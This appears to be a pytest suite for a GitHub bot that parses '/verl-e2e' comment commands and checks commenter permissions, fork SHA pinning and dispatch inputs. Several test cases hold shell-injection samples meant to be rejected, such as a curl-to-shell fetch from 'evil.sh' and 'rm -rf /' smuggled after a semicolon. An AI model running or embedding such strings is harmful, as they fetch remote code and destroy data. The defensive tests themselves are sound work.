"""Triggers: the comment grammar, and the trust checks against the validating loopback GitHub,
with GitHub's own example payloads (@octokit/webhooks-examples) adapted to a Bridge pull request."""

from __future__ import annotations

import copy
import json
import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from verl_e2e.github.client import GitHubClient
from verl_e2e.github.trigger import (
    Command,
    CommandError,
    Ignored,
    from_comment,
    from_dispatch,
    from_pull_request,
    from_push,
    parse_command,
)

from .conftest import ROOT, prepared
from .github_server import Spec, serve

EXAMPLES = Path(os.environ.get("VERL_E2E_WEBHOOK_EXAMPLES", ROOT / ".cache/webhooks/index.json"))
HEAD, BASE = "1" * 40, "2" * 40


@pytest.fixture(scope="session")
def examples() -> dict[str, list[dict]]:
    path = prepared(EXAMPLES, "GitHub's webhook examples (npm @octokit/webhooks-examples)", "webhooks")
    return {e["name"]: e["examples"] for e in json.loads(path.read_text())}


@pytest.fixture(scope="session")
def spec() -> Spec:
    return Spec()


GOOD = [
    ("/verl-e2e", Command()),
    ("/verl-e2e level=2", Command(levels="2")),
    ("  /verl-e2e levels=1,2 family=qwen_vl,llama\nthanks!", Command(levels="1,2", family="qwen_vl,llama")),
    (
        f"/verl-e2e level=all model=Qwen/Qwen3-0.6B sha={HEAD} verl=v0.7.1",
        Command("all", "", "Qwen/Qwen3-0.6B", HEAD, "v0.7.1"),
    ),
]


@pytest.mark.parametrize(("body", "command"), GOOD)
def test_commands(body: str, command: Command) -> None:
    assert parse_command(body) == command


BAD = [
    ("/verl-e2e level=9", "`level=9` is not valid; expected auto, all or levels 0-5"),
    ("/verl-e2e lvl=2", "unknown option `lvl` (did you mean 'level'?)"),
    ("/verl-e2e level=1 level=2", "`level` is given twice"),
    ("/verl-e2e sha=abc123", "expected the PR head's full 40-character SHA"),
    ("/verl-e2e now", "`now` is not key=value"),
    ("/verl-e2e model=$(curl${IFS}evil.sh|sh)", "`model=$(curl${IFS}evil.sh|sh)` is not valid"),
    ("/verl-e2e family=qwen;rm -rf /", "is not valid"),
]


@pytest.mark.parametrize(("body", "message"), BAD)
def test_malformed_commands_say_why(body: str, message: str) -> None:
    with pytest.raises(CommandError) as info:
        parse_command(body)
    assert message in str(info.value)


@pytest.mark.parametrize("body", ["", "LGTM", "please /verl-e2e level=1", "/verl-e2eX level=1", "/verl-e2e-ok"])
def test_not_a_command(body: str) -> None:
    assert parse_command(body) is None


@given(st.text(max_size=200))
def test_any_comment_is_a_command_none_or_a_clear_refusal(body: str) -> None:
    try:
        command = parse_command(body)
    except CommandError as exc:
        assert str(exc)
        return
    if command is not None:
        for value in (command.levels, command.family, command.model, command.sha, command.verl):
            assert not set(value) & set("$`;|&<>(){}'\" \\\n")  # nothing shell-active survives parsing


@given(st.lists(st.sampled_from("012345"), min_size=1, max_size=6, unique=True), st.booleans())
def test_generated_commands_round_trip(levels: list[str], with_sha: bool) -> None:
    body = f"/verl-e2e level={','.join(levels)}" + (f" sha={HEAD}" if with_sha else "")
    command = parse_command(body)
    assert command is not None and command.levels == ",".join(levels) and command.sha == (HEAD if with_sha else "")


def comment_event(examples: dict, body: str, login: str = "maintainer", created: str = "2026-11-30T10:00:00Z") -> dict:
    event = copy.deepcopy(next(e for e in examples["issue_comment"] if e["action"] == "created"))
    event["issue"]["pull_request"] = {"url": "https://api.github.com/repos/Codertocat/Hello-World/pulls/1"}
    event["comment"].update(body=body, created_at=created)
    event["comment"]["user"]["login"] = login
    return event


def setup_pr(state, committed: str = "2026-11-30T09:00:00Z") -> None:
    state.permissions.update({"maintainer": "write", "visitor": "read"})
    state.pulls[1] = {
        "number": 1,
        "head": {"sha": HEAD, "repo": {"full_name": "Codertocat/Hello-World"}},
        "base": {"sha": BASE},
    }
    state.commits[HEAD] = {"sha": HEAD, "commit": {"committer": {"date": committed}}}


def test_accepted_comment(examples: dict, spec: Spec) -> None:
    with serve(spec) as (url, state):
        setup_pr(state)
        request = from_comment(comment_event(examples, "/verl-e2e level=1,2 family=qwen"), GitHubClient("t", url))
        assert request is not None and request.run and request.head_sha == HEAD and request.base_sha == BASE
        assert (request.levels, request.family, request.pr) == ("1,2", "qwen", 1)
        assert state.violations == []


@pytest.mark.parametrize(
    ("body", "fork", "message"),
    [
        (f"/verl-e2e sha={'3' * 40}", False, "the PR head is now 111111111111"),
        (
            "/verl-e2e level=1",
            True,
            "comes from a fork: name the commit you reviewed, `/verl-e2e sha=<the full SHA you reviewed>`",
        ),
        ("/verl-e2e level=9", False, "is not valid"),
    ],
    ids=["named-sha-is-stale", "fork-needs-sha", "malformed-from-a-writer"],
)
def test_refused_comments(examples: dict, spec: Spec, body: str, fork: bool, message: str) -> None:
    with serve(spec) as (url, state):
        setup_pr(state)
        if fork:
            state.pulls[1]["head"]["repo"] = {"full_name": "outsider/Hello-World"}
        with pytest.raises(CommandError, match=message.replace("(", "\\(").replace("`", ".")):
            from_comment(comment_event(examples, body), GitHubClient("t", url))
        assert state.violations == []


def test_commenters_without_write_are_ignored_with_one_call_and_no_parse(examples: dict, spec: Spec) -> None:
    with serve(spec) as (url, state):
        setup_pr(state)
        for body in ("/verl-e2e level=1", "/verl-e2e level=9 $(curl evil)"):
            with pytest.raises(Ignored, match="@visitor has read permission"):
                from_comment(comment_event(examples, body, "visitor"), GitHubClient("t", url))
        assert [p for _m, p in state.requests if "/pulls/" in p] == []  # only the permission was asked
        assert state.violations == []


def test_a_backdated_force_push_is_not_trusted(examples: dict, spec: Spec) -> None:
    """The head's committer date is set by its author: it decides nothing. A fork needs sha=; on a
    same-repository PR the run pins the head current at the check (reported in the reason)."""
    with serve(spec) as (url, state):
        setup_pr(state, committed="2020-01-01T00:00:00Z")  # backdated long before the comment
        state.pulls[1]["head"]["repo"] = {"full_name": "outsider/Hello-World"}
        with pytest.raises(CommandError, match="sha="):
            from_comment(comment_event(examples, "/verl-e2e level=1"), GitHubClient("t", url))
        assert not any("/commits/" in p for _m, p in state.requests)


def test_named_sha_pins_even_after_later_commits(examples: dict, spec: Spec) -> None:
    with serve(spec) as (url, state):
        setup_pr(state, committed="2026-11-30T11:00:00Z")
        request = from_comment(comment_event(examples, f"/verl-e2e sha={HEAD}"), GitHubClient("t", url))
        assert request is not None and request.head_sha == HEAD


def test_comments_that_are_not_for_us(examples: dict) -> None:
    event = comment_event(examples, "nice work")
    assert from_comment(event, GitHubClient("t", "http://127.0.0.1:9")) is None  # no API call at all
    plain_issue = copy.deepcopy(next(e for e in examples["issue_comment"] if e["action"] == "created"))
    plain_issue["comment"]["body"] = "/verl-e2e level=1"
    assert from_comment(plain_issue, GitHubClient("t", "http://127.0.0.1:9")) is None


def test_pull_request_events(examples: dict) -> None:
    event = copy.deepcopy(next(e for e in examples["pull_request"] if e["action"] == "opened"))
    default = from_pull_request(event)
    assert default.plan and not default.run and "pull-request/" in default.reason  # cells run on copy-pr-bot's push
    same = from_pull_request(event, same_repo_prs=True)
    assert same.run and not same.fork and same.head_sha == event["pull_request"]["head"]["sha"]
    event["pull_request"]["head"]["repo"]["full_name"] = "someone/fork"
    fork = from_pull_request(event, same_repo_prs=True)
    assert fork.plan and not fork.run and fork.fork and "/ok to test <full SHA>" in fork.reason
    assert "sha=<full SHA>" in fork.reason and event["pull_request"]["head"]["sha"] not in fork.reason  # no approval
    event["pull_request"]["draft"] = True
    assert not from_pull_request(event).plan


def test_dispatch(examples: dict, spec: Spec) -> None:
    event = copy.deepcopy(examples["workflow_dispatch"][0])
    event["inputs"] = {"pr": "1", "sha": HEAD, "levels": "0,5", "model": "", "verl_ref": "main"}
    repo = event["repository"]["full_name"]
    with serve(spec) as (url, state):
        setup_pr(state)
        request = from_dispatch(event, GitHubClient("t", url))
        assert (request.head_sha, request.levels, request.verl_ref, request.repo) == (HEAD, "0,5", "main", repo)
        event["inputs"] = {"pr": "1"}
        with pytest.raises(CommandError, match="input pr needs sha"):
            from_dispatch(event, GitHubClient("t", url))
        event["inputs"] = {"pr": "1", "sha": "2" * 40}
        with pytest.raises(CommandError, match="not the sha given"):
            from_dispatch(event, GitHubClient("t", url))
        event["inputs"] = {"levels": "7"}
        with pytest.raises(CommandError, match="input level='7'"):
            from_dispatch(event, GitHubClient("t", url))


def test_trigger_cli_refusal_reacts_and_replies(examples: dict, spec: Spec, cli, tmp_path: Path) -> None:
    event_file = tmp_path / "event.json"
    event_file.write_text(json.dumps(comment_event(examples, "/verl-e2e level=8")))
    with serve(spec) as (url, state):
        setup_pr(state)
        out = tmp_path / "out"
        env = {"GITHUB_API_URL": url, "GITHUB_TOKEN": "t", "GITHUB_OUTPUT": str(out)}
        result = cli("trigger", "--event-name", "issue_comment", "--event", str(event_file), env=env)
        assert result.code == 0, result.err
        assert state.reactions[-1][1] == "confused"
        assert "'level=8' is not valid" in state.comments[1][-1]["body"]  # the user's text is shown, not rendered
        assert "run<<" in out.read_text() and "\nfalse\n" in out.read_text()
        event_file.write_text(json.dumps(comment_event(examples, "/verl-e2e level=1")))
        ok = cli("trigger", "--event-name", "issue_comment", "--event", str(event_file), env=env)
        assert ok.code == 0 and state.reactions[-1][1] == "eyes" and f"\n{HEAD}\n" in out.read_text()
        assert state.violations == []


def test_fork_notice_checks_the_artifact_against_the_api(spec: Spec, cli, tmp_path: Path) -> None:
    notice = tmp_path / "fork-notice.json"
    with serve(spec) as (url, state):
        setup_pr(state)
        env = {"GITHUB_API_URL": url, "GITHUB_TOKEN": "t", "GITHUB_REPOSITORY": "Codertocat/Hello-World"}
        notice.write_text(json.dumps({"pr": "1", "head_sha": HEAD}))
        ok = cli("fork-notice", str(notice), "--head-sha", HEAD, env=env)
        body = state.comments[1][0]["body"]
        assert ok.code == 0 and "`/verl-e2e sha=<the full SHA of the commit you reviewed>`" in body
        assert HEAD not in body  # never a ready-to-paste approval of the newest, unreviewed push
        notice.write_text(json.dumps({"pr": "1; rm -rf /", "head_sha": HEAD}))
        bad = cli("fork-notice", str(notice), "--head-sha", HEAD, env=env)
        assert bad.code == 2 and "nothing posted" in bad.err
        notice.write_text(json.dumps({"pr": "1", "head_sha": "9" * 40}))
        moved = cli("fork-notice", str(notice), "--head-sha", "9" * 40, env=env)
        assert moved.code == 2 and "is now at" in moved.err
        assert len(state.comments[1]) == 1 and state.violations == []


def test_copy_pr_bot_push_runs_the_pushed_sha(examples: dict, spec: Spec) -> None:
    event = copy.deepcopy(examples["push"][0])
    event.update(ref="refs/heads/pull-request/1", after=HEAD, deleted=False)
    with serve(spec) as (url, state):
        setup_pr(state)
        request = from_push(event, GitHubClient("t", url))
        assert (request.run, request.pr, request.head_sha, request.base_sha) == (True, 1, HEAD, BASE)
        event["ref"] = "refs/heads/main"
        assert not from_push(event, GitHubClient("t", url)).run
        assert state.violations == []
